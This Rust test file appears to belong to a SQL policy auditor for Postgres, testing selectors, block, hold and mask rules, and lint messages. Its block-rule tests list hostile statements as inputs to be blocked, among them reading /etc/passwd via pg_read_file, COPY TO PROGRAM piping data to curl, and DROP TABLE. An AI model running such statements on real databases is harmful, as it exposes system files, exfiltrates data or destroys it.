use std::{collections::BTreeMap, path::Path};

use super::*;

fn set(yaml: &str) -> PolicySet {
    let mut report = LintReport::default();
    let policies = load_str(Path::new("t.yaml"), yaml, &mut report);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    PolicySet::new(policies)
}

fn errors(yaml: &str) -> Vec<String> {
    let mut report = LintReport::default();
    load_str(Path::new("p.yaml"), yaml, &mut report);
    report.errors.iter().map(|e| e.to_string()).collect()
}

fn warnings(yaml: &str) -> Vec<String> {
    let mut report = LintReport::default();
    load_str(Path::new("p.yaml"), yaml, &mut report);
    report.warnings.iter().map(|e| e.to_string()).collect()
}

fn labels(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

fn subject<'a>(labels: &'a BTreeMap<String, String>, user: &'a str) -> Subject<'a> {
    Subject {
        labels,
        db_user: user,
        database: "shop",
        application_name: "psql",
        client_addr: Some("10.1.2.3".parse().unwrap()),
        server_addr: Some("127.0.0.1".parse().unwrap()),
        server_port: 5432,
    }
}

#[test]
fn selector_operators() {
    let l = labels(&[("k8s.namespace", "agents"), ("k8s.pod/app", "bot")]);
    let s = subject(&l, "app_rw");
    let cases: &[(&str, bool)] = &[
        ("{}", true),
        ("{matchLabels: {k8s.namespace: agents}}", true),
        ("{matchLabels: {k8s.namespace: prod}}", false),
        ("{matchLabels: {k8s.namespace: agents, k8s.pod/app: bot}}", true),
        ("{matchLabels: {k8s.namespace: agents, k8s.pod/app: web}}", false),
        ("{matchExpressions: [{key: k8s.pod/app, operator: In, values: [web, bot]}]}", true),
        ("{matchExpressions: [{key: k8s.pod/app, operator: In, values: [web]}]}", false),
        ("{matchExpressions: [{key: k8s.pod/app, operator: NotIn, values: [web]}]}", true),
        ("{matchExpressions: [{key: k8s.pod/app, operator: NotIn, values: [bot]}]}", false),
        // NotIn holds for a session without the label, as in Kubernetes.
        ("{matchExpressions: [{key: k8s.pod/tier, operator: NotIn, values: [x]}]}", true),
        ("{matchExpressions: [{key: k8s.pod/app, operator: Exists}]}", true),
        ("{matchExpressions: [{key: k8s.pod/tier, operator: Exists}]}", false),
        ("{matchExpressions: [{key: k8s.pod/tier, operator: DoesNotExist}]}", true),
        ("{matchExpressions: [{key: k8s.pod/app, operator: DoesNotExist}]}", false),
        ("{matchExpressions: [{key: db.user, operator: In, values: [app_rw]}]}", true),
        ("{matchLabels: {db.name: shop, db.application_name: psql}}", true),
        ("{matchExpressions: [{key: client.addr, operator: In, values: [10.0.0.0/8]}]}", true),
        ("{matchExpressions: [{key: client.addr, operator: In, values: [10.1.2.3]}]}", true),
        ("{matchExpressions: [{key: client.addr, operator: In, values: [192.168.0.0/16]}]}", false),
        ("{matchExpressions: [{key: client.addr, operator: NotIn, values: [10.0.0.0/8]}]}", false),
        ("{matchExpressions: [{key: server.addr, operator: In, values: [127.0.0.0/8]}]}", true),
        ("{matchLabels: {server.port: '5432'}}", true),
        ("{matchLabels: {server.port: '6432'}}", false),
        (
            "{matchLabels: {k8s.namespace: agents}, matchExpressions: [{key: db.user, operator: NotIn, values: [app_rw]}]}",
            false,
        ),
    ];
    for (selector, want) in cases {
        let p = set(&format!("name: p\nselector: {selector}\n"));
        assert_eq!(
            p.policies[0].policy.selector.matches(&s),
            *want,
            "{selector}"
        );
    }
}

fn judge(policy: &str, sql: &str) -> Option<(String, String)> {
    let set = set(policy);
    let l = labels(&[]);
    let applied = set.resolve(&subject(&l, "u"), Defaults::default());
    let facts = Facts::of(sql);
    applied
        .judge(&Statement {
            sql,
            facts: facts.as_ref(),
            multi: false,
        })
        .map(|d| (d.action.would().to_string(), d.rule))
}

#[test]
fn rules_on_parse_trees() {
    let policy = r#"
name: guard
mode: dry-run
block:
  - name: no-ddl
    when: {ddl: true}
  - name: file-access
    when: {functions: [pg_read_file, lo_export, "dblink*"]}
  - name: unbounded-writes
    when: {without_where: true}
  - name: copy-program
    when: {copy_program: true}
  - name: secrets
    when: {tables: [vault.secrets, '"Cards"']}
  - name: multi
    when: {multi_statement: true}
  - name: opaque
    when: {opaque: true}
  - name: sleep
    when: {pattern: '(?i)pg_sleep\s*\('}
require_approval:
  - name: deletes
    when: {commands: [DELETE]}
mask:
  - name: emails
    columns: [public.users.email]
"#;
    let b = |rule: &str| Some(("would_block".to_string(), rule.to_string()));
    let cases: &[(&str, Option<(String, String)>)] = &[
        ("SELECT 1", None),
        ("select * from orders where id = 1", None),
        ("CREATE TABLE t (a int)", b("no-ddl")),
        ("drop table orders", b("no-ddl")),
        ("SELECT 1; DROP TABLE t", b("no-ddl")),
        ("SELECT pg_read_file('/etc/passwd')", b("file-access")),
        (
            "SELECT length(PG_CATALOG.PG_READ_FILE('x'))",
            b("file-access"),
        ),
        (
            "SELECT * FROM dblink('h', 'q') AS t(a int)",
            b("file-access"),
        ),
        ("SELECT dblink_exec('h', 'q')", b("file-access")),
        ("UPDATE orders SET paid = true", b("unbounded-writes")),
        (
            "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
            b("unbounded-writes"),
        ),
        ("EXPLAIN ANALYZE DELETE FROM orders", b("unbounded-writes")),
        ("COPY orders TO PROGRAM 'curl -d @- x'", b("copy-program")),
        ("SELECT * FROM vault.secrets", b("secrets")),
        ("SELECT * FROM secrets", b("secrets")), // unqualified: any schema
        ("SELECT * FROM other.secrets", None),
        (
            "SELECT * FROM t WHERE x IN (SELECT x FROM vault.secrets)",
            b("secrets"),
        ),
        ("SELECT * FROM \"Cards\"", b("secrets")),
        ("SELECT * FROM cards", None), // quoted pattern keeps case
        ("DO $$BEGIN DELETE FROM orders; END$$", b("opaque")),
        ("SELECT pg_sleep(1)", b("sleep")),
        // Holds are less strict than blocks: DELETE with WHERE is held.
        (
            "DELETE FROM orders WHERE id = 1",
            Some(("would_hold".into(), "deletes".into())),
        ),
        (
            "SELECT email FROM users",
            Some(("would_mask".into(), "emails".into())),
        ),
        (
            "SELECT u.* FROM public.users u",
            Some(("would_mask".into(), "emails".into())),
        ),
        ("SELECT name FROM users", None),
        ("SELECT email FROM crm.users", None),
        // The parser cannot read it: blocked (fail closed) unless the policy says otherwise.
        ("SELEC * FROM users", b(UNPARSABLE_RULE)),
    ];
    for (sql, want) in cases {
        assert_eq!(&judge(policy, sql), want, "{sql}");
    }
    assert_eq!(
        judge(&format!("{policy}on_unparsable: allow\n"), "SELEC 1"),
        None
    );
    // Audit mode judges nothing.
    assert_eq!(
        judge(
            &policy.replace("mode: dry-run", "mode: audit"),
            "DROP TABLE t"
        ),
        None
    );
    // Multi-statement strings: the capture splits them; `multi` says it was one of several.
    let set = set(policy);
    let l = labels(&[]);
    let applied = set.resolve(&subject(&l, "u"), Defaults::default());
    let f = Facts::of("SELECT 1").unwrap();
    let d = applied.judge(&Statement {
        sql: "SELECT 1",
        facts: Some(&f),
        multi: true,
    });
    assert_eq!(d.map(|d| d.rule), Some("multi".to_string()));
}

#[test]
fn combining_policies() {
    let yaml = r#"
name: everyone
mode: dry-run
record: {raw_statements: false}
block:
  - name: no-truncate
    when: {commands: [TRUNCATE]}
---
name: agents
selector: {matchLabels: {k8s.namespace: agents}}
record: {raw_statements: true}
require_approval:
  - name: any-write
    when: {commands: [INSERT, UPDATE, DELETE, TRUNCATE]}
---
name: agents-bot
priority: 5
selector: {matchLabels: {k8s.pod/app: bot}}
mode: enforce
---
name: agents-low
priority: 1
selector: {matchLabels: {k8s.pod/app: bot}}
mode: audit
record: {raw_params: true}
"#;
    let set = set(yaml);
    let l = labels(&[("k8s.namespace", "agents"), ("k8s.pod/app", "bot")]);
    let a = set.resolve(&subject(&l, "u"), Defaults::default());
    let names: Vec<&str> = a.policies.iter().map(|p| p.policy.name.as_str()).collect();
    // Equally specific: priority; then less specific; the empty selector last.
    assert_eq!(names, ["agents-bot", "agents-low", "agents", "everyone"]);
    assert_eq!(&*a.name, "agents-bot");
    assert_eq!(a.mode, Mode::Enforce); // the first that sets it
    assert!(a.raw_statements); // from `agents`, the first that sets it
    assert!(a.raw_params); // from `agents-low`
                           // `agents` has no mode of its own: its rules do not judge (audit). `everyone` is a
                           // dry run: a TRUNCATE would be blocked.
    let f = Facts::of("TRUNCATE t").unwrap();
    let d = a
        .judge(&Statement {
            sql: "TRUNCATE t",
            facts: Some(&f),
            multi: false,
        })
        .unwrap();
    assert_eq!(
        (d.action, d.policy.as_str(), d.rule.as_str()),
        (Action::Block, "everyone", "no-truncate")
    );
    assert!(!d.enforce);

    let other = labels(&[("k8s.namespace", "prod")]);
    let b = set.resolve(
        &subject(&other, "u"),
        Defaults {
            raw_statements: true,
            raw_params: false,
        },
    );
    assert_eq!(&*b.name, "everyone");
    assert!(!b.raw_statements); // the policy says so, over the daemon's default
    assert_ne!(a.version, b.version);

    let empty = PolicySet::default().resolve(
        &subject(&other, "u"),
        Defaults {
            raw_statements: true,
            raw_params: true,
        },
    );
    assert_eq!(
        (
            &*empty.name,
            empty.mode,
            empty.raw_statements,
            empty.raw_params
        ),
        ("", Mode::Audit, true, true)
    );
}

#[test]
fn enforce_beats_dry_run_and_strictness_decides() {
    let yaml = r#"
name: a-dry
mode: dry-run
block:
  - name: dry-block
    when: {commands: [DELETE]}
---
name: b-enforce
mode: enforce
require_approval:
  - name: hold-deletes
    when: {commands: [DELETE]}
"#;
    let set = set(yaml);
    let l = labels(&[]);
    let a = set.resolve(&subject(&l, "u"), Defaults::default());
    let f = Facts::of("DELETE FROM t WHERE id = 1").unwrap();
    let d = a
        .judge(&Statement {
            sql: "",
            facts: Some(&f),
            multi: false,
        })
        .unwrap();
    assert_eq!((d.rule.as_str(), d.enforce), ("hold-deletes", true));
}

#[test]
fn lint_names_file_line_and_column() {
    let cases: &[(&str, &str)] = &[
        ("name: x\nselecter: {}\n", "p.yaml:2:1: unknown field `selecter`"),
        ("name: x\nselecter: {}\n", "(did you mean `selector`?)"),
        (
            "name: x\nselector:\n  matchExpressions:\n    - {key: a, operator: Inn, values: [b]}\n",
            "p.yaml:4:",
        ),
        (
            "name: x\nselector:\n  matchExpressions:\n    - {key: a, operator: Inn, values: [b]}\n",
            "(did you mean `In`?)",
        ),
        (
            "name: x\nmode: dry-run\nblock:\n  - name: r\n    when: {pattern: '(unclosed'}\n",
            "p.yaml:5:",
        ),
        (
            "name: x\nmode: dry-run\nblock:\n  - name: r\n    when: {pattern: '(unclosed'}\n",
            "`pattern` does not compile",
        ),
        ("name: x\nmode: enforced\n", "(did you mean `enforce`?)"),
        ("name: x\nselector: {matchLabels: [a]\n", "p.yaml:2:"),
        (
            "name: x\nselector:\n  matchExpressions:\n    - {key: client.addr, operator: In, values: [10.0.0.0/33]}\n",
            "is not an address or CIDR block",
        ),
        (
            "name: x\nselector:\n  matchExpressions:\n    - {key: a, operator: In}\n",
            "needs at least one value",
        ),
        (
            "name: x\nselector:\n  matchExpressions:\n    - {key: a, operator: Exists, values: [b]}\n",
            "takes no `values`",
        ),
        ("name: x\nblock:\n  - name: r\n    when: {}\n", "names no condition"),
        (
            "name: x\nblock:\n  - name: r\n    when: {ddl: true}\n  - name: r\n    when: {ddl: true}\n",
            "p.yaml:5:5: rule name `r` is used twice",
        ),
        ("name: x\nmask:\n  - name: m\n", "names no `columns`, no `detectors` and no `patterns`"),
        ("name: x\nmask:\n  - name: m\n    columns: [email]\n", "expected `table.column`"),
        (
            "name: x\nrequire_approval:\n  - name: h\n    when: {ddl: true}\n    timeout: 5 minutes\n",
            "unknown unit",
        ),
        ("name: x\n---\nname: y\nmode: sometimes\n", "p.yaml:4:"),
        (
            "name: x\nmask:\n  - name: m\n    columns: [t.c]\n    keep: 2\n",
            "has `keep` without `using: partial`",
        ),
        (
            "name: x\nmask:\n  - name: m\n    columns: [t.c]\n    using: scramble\n",
            "unknown variant `scramble`",
        ),
        (
            "name: x\nmode: enforce\ncredential: {user: r}\n",
            "exactly one of `password_file` and `secret`",
        ),
        (
            "name: x\nmode: enforce\ncredential: {user: r, password_file: /p, secret: {namespace: a, name: b}}\n",
            "exactly one of `password_file` and `secret`",
        ),
        (
            "name: x\nmode: enforce\ncredential: {user: r, secret: {namespace: '', name: b}}\n",
            "needs a `namespace`, a `name` and a non-empty `key`",
        ),
        (
            "name: x\nmode: enforce\ncredential: {user: r, password_file: rel/p}\n",
            "must be an absolute path",
        ),
        (
            "name: x\nmode: audit\ncredential: {user: r, password_file: /p}\n",
            "is not `mode: enforce`",
        ),
    ];
    for (yaml, want) in cases {
        let errs = errors(yaml);
        assert!(
            errs.iter().any(|e| e.contains(want)),
            "{yaml}\nwant {want:?} in {errs:?}"
        );
    }
    assert!(errors("# only a comment\n").is_empty());
    assert!(errors(
        "name: x\nmode: enforce\ncredential: {user: r, secret: {namespace: a, name: b}}\n"
    )
    .is_empty());
    assert!(errors("name: a\n---\nname: b\n---\n").is_empty());
}

#[test]
fn unknown_label_keys_warn() {
    let w = warnings("name: x\nselector:\n  matchLabels:\n    k8s.pod/app: web\n    app: web\n");
    assert_eq!(w.len(), 1, "{w:?}");
    assert!(
        w[0].starts_with("p.yaml:5:5: no source sets label `app`"),
        "{w:?}"
    );
}

#[test]
fn duplicate_policy_names_across_files() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("a.yaml"), "name: same\n").unwrap();
    std::fs::write(dir.path().join("b.yml"), "# b\nname: same\n").unwrap();
    std::fs::write(dir.path().join("notes.txt"), "name: ignored\n").unwrap();
    let (set, report) = load_dir(dir.path());
    assert_eq!(report.files, 2);
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    assert!(report.errors[0]
        .to_string()
        .contains("b.yml:2:1: policy name `same` is already used at"));
    assert_eq!(set.policies.len(), 2);
}

#[test]
fn the_repository_examples_are_valid() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies");
    let (set, report) = load_dir(&dir);
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert!(report.warnings.is_empty(), "{:?}", report.warnings);
    assert!(!set.policies.is_empty());
}

#[test]
fn the_committed_schema_is_current() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../policies/schema.json");
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        committed.trim_end() == schema_json().trim_end(),
        "policies/schema.json is stale: regenerate it with \
         `cargo run -p auditor -- policy schema > policies/schema.json`"
    );
}
